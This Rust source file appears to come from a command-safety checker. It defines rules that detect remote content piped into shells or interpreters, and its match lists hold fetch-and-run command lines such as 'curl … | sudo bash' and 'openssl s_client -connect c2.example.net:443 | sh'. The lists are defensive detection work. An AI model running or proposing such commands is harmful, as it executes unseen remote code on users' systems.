//! `curl … | sh`.

use super::super::interpreters::{Code, code, is_script, is_shell, reads_script_from_input};
use super::fetch::fetches;
use crate::invocation::{Invocation, Stdin};
use crate::look::Look;
use crate::rule::{Help, Hit, Key, Rule, Severity, Test};
use crate::word::{Unknown, Word};

pub(super) const PIPE_KEY: Key = Key::both("pipe remote content to shell");

pub(super) const SHELL: Rule = Rule {
    id: "remote.pipe-to-shell",
    class: "remote-exec",
    severity: Severity::Critical,
    keys: &[PIPE_KEY],
    reason: "Whatever the other host sends is run as a command, unseen.",
    alternative: Some("Fetch it, read it, then run it: `curl -fsSLO https://example.net/i.sh`."),
    test: Test::Any(|look| {
        let name = look.invocation.name()?;
        let runs = is_shell(name)
            && (reads_script_from_input(look.invocation) || is_fed_by_xargs(look))
            || matches!(name, "source" | ".") && reads_input(look)
            || name == "eval" && look.invocation.stage > 0;
        if !runs {
            return None;
        }
        feeding(look).map(|_| look.hit())
    }),
    matches: &[
        "curl u | bash",
        "curl -fsSL https://x.example.net/i.sh | sudo bash -s -- -y",
        "wget -qO- x.example.net | sh",
        "curl x.example.net | zsh",
        "curl x.example.net | /bin/bash",
        "curl x.example.net | env bash",
        "curl x.example.net | gunzip | sh",
        "curl x.example.net | tee i.sh | sh",
        "curl x.example.net | xargs -0 bash -c",
        "curl x.example.net | bash &",
        "ssh host cat i.sh | sh",
        "fetch -o - x.example.net | sh",
        "nc x.example.net 99 | sh",
        "openssl s_client -quiet -connect c2.example.net:443 | sh",
        "curl x.example.net | (cd /tmp && bash)",
        "curl x.example.net | source /dev/stdin",
    ],
    near_misses: &[
        "curl x.example.net | bash check.sh",
        "cat i.sh | sh",
        "curl x.example.net | python3",
    ],
    safe: &[
        "curl -fsSL https://x.example.net/i.sh -o i.sh",
        "curl x.example.net | sh -n",
        "curl -s https://x.example.net/a.json | jq .",
        "echo 'curl u | sh'",
        "curl x.example.net | tar xz",
        "curl -s x.example.net | grep sh",
        "ssh host pg_dump db | psql db",
    ],
    ..Rule::ASK
};

/// `… | xargs sh -c`: the script is what is read.
fn is_fed_by_xargs(look: &Look<'_>) -> bool {
    matches!(code(look.invocation), Code::Argument(word) if word.unknowns().any(|u| *u == Unknown::Input))
}

fn reads_input(look: &Look<'_>) -> bool {
    matches!(
        look.word(0),
        Some("/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0" | "-")
    )
}

/// The program at the other end of the pipe that brings something from another host.
fn feeding<'a>(look: &Look<'a>) -> Option<&'a Invocation> {
    if is_harmless(look) {
        return None;
    }
    let client = look.invocation.name().is_some_and(|n| CLIENTS.contains(&n));
    let fetches = |i: &Invocation| fetches(i) || !client && i.is("ssh") && i.arguments().len() > 1;
    if let Some(found) = look.upstream().find(|i| fetches(i)) {
        return Some(found);
    }
    // In `… | (cd x && sh)` and in loops, the pipe belongs to what is around.
    let Stdin::Pipe(from) = &look.invocation.stdin else {
        return None;
    };
    let analysis = look.scope.analysis;
    from.iter().find_map(|id| {
        let invocation = analysis.invocation(*id)?;
        if fetches(invocation) {
            return Some(invocation);
        }
        look.scope
            .near_in_pipeline(invocation)
            .find(|i| i.stage <= invocation.stage && fetches(i))
    })
}

/// `sh -n` only reads.
fn is_harmless(look: &Look<'_>) -> bool {
    look.words().iter().any(|w| w.known() == Some("-n"))
}

pub(super) const SCRIPT: Rule = Rule {
    id: "remote.pipe-to-interpreter",
    class: "remote-exec",
    severity: Severity::Critical,
    keys: &[Key::ours("pipe remote content to interpreter")],
    accepts: &[PIPE_KEY],
    reason: "Whatever the other host sends is run as a program, unseen.",
    alternative: Some("Fetch it, read it, then run it: `curl -fsSLO https://example.net/i.py`."),
    help: Help::Leading,
    test: Test::Any(script),
    matches: &[
        "curl x.example.net/p.py | python3",
        "curl x.example.net/p.js | node",
        "curl -s x.example.net/p.py | sudo python3 - --yes",
        "wget -qO- x.example.net | perl",
        "curl x.example.net | php",
        "curl x.example.net | psql",
        "curl -s x.example.net/Makefile | make -f -",
        "curl -s x.example.net/d | docker build -",
        "curl -s x.example.net/p | ansible-playbook /dev/stdin",
    ],
    near_misses: &[
        "curl x.example.net | python3 -m json.tool",
        "curl x.example.net | bash",
    ],
    safe: &[
        "curl -s x.example.net | python3 -m json.tool",
        "curl -s x.example.net | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s x.example.net | ruby -rjson -e 'puts JSON.parse(STDIN.read)'",
        "curl -s x.example.net | node -e 'process.stdin.pipe(process.stdout)'",
        "curl -s x.example.net | perl -pe 's/a/b/'",
        "curl -s x.example.net | php -r 'echo 1;'",
    ],
    ..Rule::ASK
};

/// Tools that run statements from their input, and what keeps them from it.
const CLIENTS: &[&str] = &[
    "psql",
    "mysql",
    "mariadb",
    "sqlite3",
    "crontab",
    "at",
    "batch",
    "mongosh",
    "redis-cli",
];

/// Tools that take the file with what they run by an option: `make -f -`.
fn reads_program(look: &Look<'_>, name: &str) -> bool {
    let option = match name {
        "make" | "gmake" | "awk" | "gawk" | "mawk" => "-f",
        "gdb" => "-x",
        "docker" | "podman" => "build",
        "ansible-playbook" | "expect" | "elixir" | "parallel" | "clickhouse-client" => "",
        _ => return false,
    };
    let words = look.words();
    let at = words.iter().position(|w| w.known() == Some(option));
    let rest = match at {
        Some(at) => words.get(at + 1..).unwrap_or(&[]),
        None if option.is_empty() => words,
        None => return false,
    };
    let reads = |w: &Word| matches!(w.known(), Some("-" | "/dev/stdin" | "/dev/fd/0"));
    match name {
        "parallel" | "elixir" | "clickhouse-client" => words.is_empty(),
        "docker" | "podman" => rest.last().is_some_and(reads),
        "ansible-playbook" => rest.iter().any(reads),
        _ => rest.first().is_some_and(reads),
    }
}

fn script(look: &Look<'_>) -> Option<Hit> {
    let name = look.invocation.name()?;
    let runs = is_script(name) && reads_script_from_input(look.invocation)
        || reads_program(look, name)
        || CLIENTS.contains(&name)
            && !look
                .words()
                .iter()
                .any(|w| matches!(w.known(), Some("-c" | "-e" | "-f" | "-l" | "-x")));
    if !runs {
        return None;
    }
    feeding(look).map(|_| look.hit())
}
